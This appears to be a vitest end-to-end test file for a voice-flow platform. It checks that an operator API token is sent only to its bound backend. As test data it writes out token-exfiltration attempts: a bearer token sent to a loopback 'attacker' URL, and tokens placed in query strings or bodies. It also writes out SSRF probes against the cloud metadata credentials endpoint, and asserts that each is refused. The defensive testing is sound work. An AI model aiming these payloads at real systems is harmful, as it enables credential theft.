import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contentHash, type Flow } from '@griot/flows';
import { DEMO_OPERATOR_TOKEN } from '../src/demo/demoDefaults.ts';
import { startTestServer, userWithRoles, type TestServer } from './helpers/testServer.ts';
import type { ApiClient } from './helpers/http.ts';
import { listTestNumbers } from './helpers/testNumbers.ts';

const FLOW = 'selfcare-1919';
const SERVICE_DOWN = 'Nous sommes désolés : ce service est momentanément indisponible.';

/** Someone else's HTTP server on loopback: every request that reaches it is recorded. */
async function startAttacker(): Promise<{ url: string; port: number; requests: string[]; close(): Promise<void> }> {
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    req.on('end', () => {
      requests.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)} ${body}`);
      res.setHeader('content-type', 'application/json');
      res.end('{"puk":"00000000","subscriberFound":true}');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    port,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/**
 * Issue 12, finding 3, as it was found: an editor points the 1919 flow's look-up at a server of
 * their choosing and keeps `Authorization: Bearer {{secret.OPERATOR_API_TOKEN}}`, then previews
 * it. The real server with the demo: OPERATOR_API_TOKEN is bound to backend `operator`; a
 * second backend `crm` (someone else's system) is configured, and loopback and the metadata
 * address are even on the host allow-list (an operator's mistake), so that what stops the token
 * is the secret's binding, and what stops the address is the check when connecting.
 */
describe('flow secrets go only to the backends they are bound to', () => {
  let server: TestServer;
  let attacker: Awaited<ReturnType<typeof startAttacker>>;
  let editor: ApiClient;
  let publisher: ApiClient;
  let original: Flow;

  beforeAll(async () => {
    attacker = await startAttacker();
    server = await startTestServer({
      env: { GRIOT_DEMO: '1', GRIOT_BACKENDS_STAGING: `crm=${attacker.url}`, GRIOT_BACKENDS_PRODUCTION: `crm=${attacker.url}`, GRIOT_HTTP_ALLOWED_HOSTS: '127.0.0.1,localhost,169.254.169.254' },
    });
    editor = await userWithRoles(server, 'mallory', ['editor']);
    publisher = await userWithRoles(server, 'awa', ['editor', 'publisher']);
    original = (await server.admin.get(`/api/flows/${FLOW}/draft`)).body.document;
    // The previews below call the staging backends: as test numbers.
    await listTestNumbers(server, ['+2290197000002', ...Array.from({ length: 20 }, (_, i) => `+22901970091${String(i + 1).padStart(2, '0')}`)]);
  });
  afterAll(async () => {
    await server?.stop();
    await attacker?.close();
  });

  /** The demo flow with its look-up changed by `change`. */
  function withLookup(change: (lookup: Record<string, any>) => void): Flow {
    const doc = structuredClone(original);
    change(doc.nodes.find((n) => n.id === 'lookupSubscriber') as Record<string, any>);
    return doc;
  }

  async function saveDraft(document: Flow) {
    const { revision } = (await editor.get(`/api/flows/${FLOW}/draft`)).body;
    const saved = await editor.put(`/api/flows/${FLOW}/draft`, { revision, document });
    expect(saved.status).toBe(200);
    return saved.body as { lint: Array<{ severity: string; code: string; node?: string; message: string }> };
  }

  /**
   * A caller in a publisher's preview of the draft, on voice, who asks for their PUK: French, then 1. A new
   * number each time (previews remember callers' languages); the last one is a demo subscriber.
   */
  let callers = 0;
  async function previewPuk(callerNumber = `+22901970091${String(++callers).padStart(2, '0')}`): Promise<{ effects: unknown[]; issues: Array<{ code: string; message: string; node?: string }> }> {
    const body = { flowId: FLOW, source: 'draft', channel: 'voice', callerNumber, useBackend: true };
    // The editor may not run their own draft against the real backends (test/previewBackendVetting.e2e.test.ts);
    // a publisher reviewing it may, and must not be the one who sends the token out.
    expect((await editor.post('/api/preview/sessions', body)).body.error).toMatchObject({ code: 'preview_not_vetted' });
    const started = await publisher.post('/api/preview/sessions', body);
    expect(started.status).toBe(201);
    const press = (digits: string) => publisher.post(`/api/preview/sessions/${started.body.id}/events`, { event: { type: 'digits', digits } });
    await press('1');
    const turn = await press('1');
    expect(turn.status).toBe(200);
    return turn.body;
  }

  it('an absolute URL with the operator’s token: flagged at save, refused in preview (nothing reaches the server), 422 at publish naming the node', async () => {
    const leaking = withLookup((n) => {
      delete n.backend;
      n.url = `${attacker.url}/collect/{{caller.number}}`;
    });
    const saved = await saveDraft(leaking);
    expect(saved.lint).toContainEqual(expect.objectContaining({ severity: 'error', code: 'secret.outsideBackend', node: 'lookupSubscriber' }));

    const turn = await previewPuk();
    expect(attacker.requests).toEqual([]);
    // The caller hears the look-up's error path; the tester sees why.
    expect(JSON.stringify(turn.effects)).toContain(SERVICE_DOWN);
    expect(turn.issues).toContainEqual(
      expect.objectContaining({
        code: 'http.failed',
        node: 'lookupSubscriber',
        message: 'lookupSubscriber: secret OPERATOR_API_TOKEN is not sent: lookupSubscriber calls an address written in the flow, and secrets go only to a named backend',
      }),
    );

    const refused = await editor.post(`/api/flows/${FLOW}/publish`, { message: 'faster look-up' });
    expect(refused.status).toBe(422);
    expect(refused.body.issues).toContainEqual(expect.objectContaining({ code: 'secret.outsideBackend', node: 'lookupSubscriber', field: 'headers.Authorization' }));
  });

  it('the token in the query or the body of a request to another backend: refused in preview and at publish', async () => {
    for (const change of [
      (n: Record<string, any>) => {
        n.backend = 'crm';
      },
      (n: Record<string, any>) => {
        n.backend = 'crm';
        n.headers = {};
        n.url = '/subscribers/{{caller.number}}?key={{secret.OPERATOR_API_TOKEN}}';
      },
      (n: Record<string, any>) => {
        n.backend = 'crm';
        n.headers = {};
        n.method = 'POST';
        n.body = '{"key":"{{secret.OPERATOR_API_TOKEN}}"}';
      },
    ]) {
      const saved = await saveDraft(withLookup(change));
      expect(saved.lint).toContainEqual(
        expect.objectContaining({ code: 'secret.notBound', node: 'lookupSubscriber', message: 'secret OPERATOR_API_TOKEN may be sent only to backend operator, not to crm' }),
      );
      const turn = await previewPuk();
      expect(turn.issues).toContainEqual(
        expect.objectContaining({ code: 'http.failed', message: expect.stringContaining('secret OPERATOR_API_TOKEN may be sent only to backend operator, not to crm') }),
      );
      const refused = await editor.post(`/api/flows/${FLOW}/publish`, { message: 'crm look-up' });
      expect(refused.status).toBe(422);
      expect(refused.body.issues).toContainEqual(expect.objectContaining({ code: 'secret.notBound', node: 'lookupSubscriber' }));
    }
    expect(attacker.requests).toEqual([]);
  });

  it('a version published before the rule existed reaches neither staging nor production, nor production by roll-back', async () => {
    const leaking = withLookup((n) => {
      n.backend = 'crm';
    });
    const old = await server.store.addVersion({ flowId: FLOW, hash: contentHash(leaking), document: leaking, author: 'mallory', message: 'published last year', createdAt: new Date().toISOString() });
    for (const environment of ['staging', 'production']) {
      const promoted = await publisher.post(`/api/flows/${FLOW}/environments/${environment}`, { version: old.number });
      expect(promoted.status).toBe(422);
      expect(promoted.body.error.code).toBe('secret_leak');
      expect(promoted.body.error.message).toContain('node lookupSubscriber');
      expect(promoted.body.issues).toContainEqual(expect.objectContaining({ code: 'secret.notBound', node: 'lookupSubscriber' }));
    }
    expect((await publisher.get(`/api/flows/${FLOW}/environments`)).body).toMatchObject({ staging: { version: 1 }, production: { version: 1 } });

    // Production remembers the old version as the one before: rolling back to it is refused too.
    const current = await server.store.getEnvironment(FLOW, 'production');
    await server.store.setEnvironment(FLOW, 'production', current!.version, { ...current!, history: [old.number] });
    const rollback = await publisher.post(`/api/flows/${FLOW}/environments/production/rollback`);
    expect(rollback.status).toBe(422);
    expect(rollback.body.error.code).toBe('secret_leak');
    expect((await server.store.getEnvironment(FLOW, 'production'))?.version).toBe(1);
  });

  it.each([
    ['a loopback address', () => `${attacker.url}/internal`],
    ['a name that resolves to loopback', () => `http://localhost:${attacker.port}/internal`],
    ['the cloud metadata service', () => 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  ])('an absolute URL to %s, even an allowed host, is refused when connecting', async (_what, url) => {
    await saveDraft(
      withLookup((n) => {
        delete n.backend;
        n.headers = {};
        n.url = url();
      }),
    );
    const turn = await previewPuk();
    expect(turn.issues).toContainEqual(expect.objectContaining({ code: 'http.failed', message: expect.stringContaining('requests outside the named backends go only to public addresses') }));
    expect(JSON.stringify(turn.effects)).toContain(SERVICE_DOWN);
    expect(attacker.requests).toEqual([]);
  });

  it('the demo 1919 flow, whose backend operator is on loopback, still reads the PUK with the operator’s token', async () => {
    await saveDraft(original);
    const turn = await previewPuk('+2290197000002');
    expect(turn.issues.filter((i) => i.code === 'http.failed')).toEqual([]);
    expect(JSON.stringify(turn.effects)).toMatch(/code PUK/);
    expect(JSON.stringify(turn.effects)).not.toContain(SERVICE_DOWN);
  });

  it('GET /api/backends tells the designer the names and bindings, never a value nor a URL', async () => {
    const viewer = await userWithRoles(server, 'koffi', ['viewer']);
    const answer = await viewer.get('/api/backends');
    expect(answer.status).toBe(200);
    expect(answer.body).toEqual({
      environments: {
        staging: [
          { name: 'crm', secrets: [], plainHttp: false },
          { name: 'operator', secrets: ['OPERATOR_API_TOKEN'], plainHttp: false },
        ],
        production: [
          { name: 'crm', secrets: [], plainHttp: false },
          { name: 'operator', secrets: ['OPERATOR_API_TOKEN'], plainHttp: false },
        ],
      },
      secretBackends: { OPERATOR_API_TOKEN: ['operator'] },
      allowedHosts: ['127.0.0.1', 'localhost', '169.254.169.254'],
    });
    expect(JSON.stringify(answer.body)).not.toContain(DEMO_OPERATOR_TOKEN);
    expect(JSON.stringify(answer.body)).not.toContain('127.0.0.1:');
    expect((await server.anonymous.get('/api/backends')).status).toBe(401);
    const agent = await userWithRoles(server, 'yao', ['agent']);
    expect((await agent.get('/api/backends')).status).toBe(403);
  });
});
